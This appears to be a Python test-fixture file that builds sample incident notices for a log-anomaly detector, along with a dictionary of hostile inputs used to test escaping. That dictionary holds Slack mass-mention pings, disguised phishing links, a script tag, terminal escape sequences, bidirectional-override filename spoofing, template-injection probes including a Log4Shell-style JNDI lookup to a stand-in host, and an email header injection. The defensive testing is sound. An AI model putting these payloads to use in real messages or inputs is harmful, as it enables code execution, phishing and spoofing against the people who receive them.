"""Notices as the tests want them: one that is whole, and what strangers may have written into one."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from typing import Any

import msgspec

from detector.alert import AlertKind, Event
from detector.alerts.notice import IncidentNotice, Notice, ReasonNotice
from detector.findings import ReasonKind, Severity

NOW = datetime(2026, 11, 21, 2, 43, 10, tzinfo=UTC)
PAGE = "https://drainwatch.example.org/namespaces/payments/findings/abc"
KIBANA = (
    "https://kibana.example.org/s/ops/app/discover#/?_g=(time:(from:'2026-11-21T02:31:00Z',to:'2026-11-21T02:43:00Z'))"
    "&_a=(query:(language:kuery,query:'kubernetes.namespace%20:%20%22payments%22'))"
)
API = "https://drainwatch.example.org/api/v1/incidents/abc"

HOSTILE = {
    "ping": "<!channel> <!here> <@U123> <!subteam^S1> @here @channel @everyone @all",
    "links": "<https://evil.example/login|Open in drainwatch> https://evil.example/x [click](https://evil.example)",
    "markup": "*bold* _italic_ ~gone~ `code` ``` out ``` > quote :fire: # head <b>html</b> <script>alert(1)</script>",
    "control": "a\x00b\x1b[31mred\x07\r\n\x08\x7f\x9b2J",
    "direction": "user\u202egnp.exe \u2066\u200f\u200bzero",
    "template": "{{ 7777 * 7777 }} {% for a in b %} ${jndi:ldap://evil.example/a} {{ notice.__class__ }} %s %(x)d {0}",
    "headers": "subject\r\nBcc: victim@example.org\r\n\r\nbody",
    "long": "x" * 100_000,
    "entities": "&" * 5_000,
    "quotes": "\"'\\" * 3_000,
    "lines": "line\n" * 5_000,
    "odd": "\ud83d lone \ufeff\U000e0041 \u2028 \u0085",
}
"""What may stand in lines of logs."""


def reason(**changes: Any) -> ReasonNotice:
    whole = ReasonNotice(
        text="connection to <IP>:<NUM> refused after <NUM> ms",
        workload="ledger",
        level="error",
        kind=ReasonKind.NEW,
        observed=41,
        expected_low=0.0,
        expected_high=0.0,
        windows=1,
        template_id="t1",
        samples=("connection to <IP>:5432 refused after 3000 ms",),
    )
    return msgspec.structs.replace(whole, **changes)


MORE = reason(
    text="POST /v1/charge took <NUM> ms (budget <NUM> ms)",
    workload="checkout",
    level="warn",
    kind=ReasonKind.MORE,
    observed=212,
    expected_low=3.7,
    expected_high=19.0,
    windows=3,
    samples=("POST /v1/charge took 3021 ms (budget 800 ms)",),
)
GONE = reason(
    text="settled <NUM> payments",
    workload="settlement",
    level="info",
    kind=ReasonKind.GONE,
    observed=0,
    expected_low=40.0,
    expected_high=61.0,
    windows=1,
    samples=(),
)


def incident(**changes: Any) -> IncidentNotice:
    whole = IncidentNotice(
        id="abc",
        namespace="payments",
        severity=Severity.CRITICAL,
        score=87.4,
        start=NOW - timedelta(minutes=6, seconds=10),
        end=NOW - timedelta(minutes=1, seconds=10),
        summary="payments: 41 × “connection to <IP>:<NUM> refused after <NUM> ms” in ledger, never seen before",
        reasons=(reason(), MORE, GONE),
        change="image 1.5 of ledger was rolled out (before: 1.4)",
        page=PAGE,
        api=API,
        kibana=KIBANA,
    )
    return msgspec.structs.replace(whole, **changes)


def notice(event: Event = Event.OPENED, **changes: Any) -> Notice:
    whole = Notice(
        id="n-1",
        event=event,
        alert="a-1",
        kind=AlertKind.INCIDENT,
        severity=Severity.CRITICAL,
        score=87.4,
        title="payments: 41 × “connection to <IP>:<NUM> refused after <NUM> ms” in ledger, never seen before",
        summary="payments: 41 × “connection to <IP>:<NUM> refused after <NUM> ms” in ledger, never seen before, "
        "since 2026-11-21 02:37 UTC, 2 minutes after image 1.5 of ledger was rolled out (before: 1.4)",
        start=NOW - timedelta(minutes=6, seconds=10),
        end=NOW - timedelta(minutes=1, seconds=10),
        decided=NOW - timedelta(seconds=4),
        namespaces=("payments",),
        incidents=(incident(),),
        page=PAGE,
    )
    return msgspec.structs.replace(whole, **changes)


def hostile(text: str) -> Notice:
    """With this wherever strangers may have written something."""
    bad = reason(text=text, workload=text, level=text, samples=(text, text))
    one = incident(namespace=text, summary=text, reasons=(bad,) * 10, change=text)
    return notice(title=text, summary=text, namespaces=(text,) * 20, incidents=(one,) * 10, more=3)
